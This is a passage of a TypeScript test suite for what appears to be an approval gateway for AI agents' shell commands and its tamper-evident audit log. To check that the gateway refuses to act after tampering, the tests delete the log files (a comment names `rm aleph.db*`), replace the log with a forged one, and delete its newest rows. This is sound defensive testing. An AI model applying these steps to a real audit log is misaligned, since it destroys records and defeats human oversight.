    expect(await agent.next()).toMatchObject({ decision: 'allow-once' });
    const sandbox = {
      status: 'success' as const,
      platform: 'macos',
      capability_hash: 'ab'.repeat(32),
      violations: [],
      limits_unenforced: ['memory: macOS refuses a data-segment limit'],
    };
    agent.send({ type: 'exec_result', id: 'r', exit_code: 0, duration_ms: 5, sandbox });
    expect(await agent.next()).toEqual({ type: 'result_recorded', id: 'r' });
    agent.close();
    await gateway!.stop();
    gateway = undefined;
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(5).find((e) => e.event === 'sandbox_exec')?.payload).toMatchObject({ status: 'success', limits_unenforced: sandbox.limits_unenforced });
    audit.close();
  });

  it('records how an allowed run ended, once, and only for its own requester', async () => {
    await start();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'r', request: request('ls -la') });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once' });
    const other = await client();
    other.send({ type: 'exec_result', id: 'r', exit_code: 0, duration_ms: 5 });
    expect(await other.next()).toMatchObject({ type: 'error', code: 'unknown_request' });
    agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
    expect(await agent.next()).toEqual({ type: 'result_recorded', id: 'r' });
    agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
    expect(await agent.next()).toMatchObject({ type: 'error', code: 'unknown_request' });
    agent.close();
    other.close();
    await gateway!.stop();
    gateway = undefined;
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(1)[0]).toMatchObject({
      event: 'command_finished',
      summary: 'ls -la finished: exit 3 after 13 ms',
      payload: { request_id: 'r', exit_code: 3 },
    });
    audit.close();
  });
});

describe('text the audit log could not store as received', () => {
  it("refuses a lone surrogate in a request's command, agent or session, and the chain stays intact", async () => {
    await start();
    for (const field of [{ command: 'ls \ud800' }, { agent_id: 'agent\udfff' }, { session_key: '🚀'.slice(0, 1) }]) {
      const agent = await client();
      agent.send({ type: 'approval_request', id: 'odd', request: { ...request('ls'), ...field } });
      expect(await agent.next(2000)).toMatchObject({ type: 'error', code: 'invalid_unicode' });
      agent.close();
    }
    // Characters UTF-8 can hold, astral ones included, pass as they are.
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'fine', request: request('echo 🚀') });
    expect(await agent.next(2000)).toMatchObject({ type: 'approval_decision', id: 'fine' });
    agent.close();
    await gateway!.stop();
    gateway = undefined;
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(5).map((r) => r.payload.command)).toEqual(['echo 🚀']);
    expect(audit.verify()).toMatchObject({ ok: true });
    audit.close();
  });
});

describe('an audit log deleted or replaced under the gateway', () => {
  it('allows nothing once its log is deleted, says why, and does not start again over the loss', async () => {
    const problems: string[] = [];
    await start({ onProblem: (p) => problems.push(p) });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'before', request: request('git status') });
    expect(await agent.next(2000)).toMatchObject({ type: 'approval_decision', id: 'before', decision: 'allow-once' });

    // `rm aleph.db*` while the gateway runs: its open file lives on, unlinked, where nobody can read it.
    for (const name of readdirSync(join(home, 'data')).filter((n) => n.startsWith('aleph.db'))) rmSync(join(home, 'data', name));
    agent.send({ type: 'approval_request', id: 'after', request: request('git status') });
    expect(await agent.next(2000)).toMatchObject({
      type: 'error',
      id: 'after',
      code: 'audit_unavailable',
      message: expect.stringContaining('was deleted while it was open'),
    });
    expect(problems).toEqual([expect.stringContaining(`the audit log ${auditFile(home)} was deleted while it was open`)]);
    const owner = await client();
    expect(await owner.call('audit.verify')).toMatchObject({
      ok: true,
      value: { ok: false, problems: [{ id: null, reason: expect.stringContaining('was deleted while it was open') }] },
    });
    agent.close();
    owner.close();

    await gateway!.stop();
    gateway = undefined;
    await expect(start()).rejects.toMatchObject({
      code: 'behind_head',
      message: expect.stringContaining('the log was deleted or moved. Nothing was created.'),
    });
    expect(existsSync(auditFile(home))).toBe(false);
    expect(AuditStore.verifyFile(auditFile(home), { head: auditHeadFile(home) })).toMatchObject({ ok: false });
  });

  it('allows nothing once its log is replaced by another file', async () => {
    await start();
    const other = AuditStore.open(join(home, 'other.db'));
    other.append({ event: 'terminal_cmd', command: 'nothing happened', decision: 'allow-once' });
    other.close();
    renameSync(join(home, 'other.db'), auditFile(home));
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'r', request: request('git status') });
    expect(await agent.next(2000)).toMatchObject({
      type: 'error',
      id: 'r',
      code: 'audit_unavailable',
      message: expect.stringContaining('was replaced by another file while it was open'),
    });
    agent.close();
  });

  it('does not start on a log whose newest rows were removed while it was stopped', async () => {
    await start();
    const agent = await client();
    for (const id of ['a', 'b']) {
      agent.send({ type: 'approval_request', id, request: request('git status') });
      expect(await agent.next(2000)).toMatchObject({ type: 'approval_decision', id });
    }
    agent.close();
    await gateway!.stop();
    gateway = undefined;
    const editor = new Database(auditFile(home));
    editor.prepare('DELETE FROM events WHERE id = (SELECT max(id) FROM events)').run();
    editor.close();
    await expect(start()).rejects.toMatchObject({
      code: 'behind_head',
      message: expect.stringMatching(/the log ends at row 1, but its head .* records row 2/),
    });
  });
});
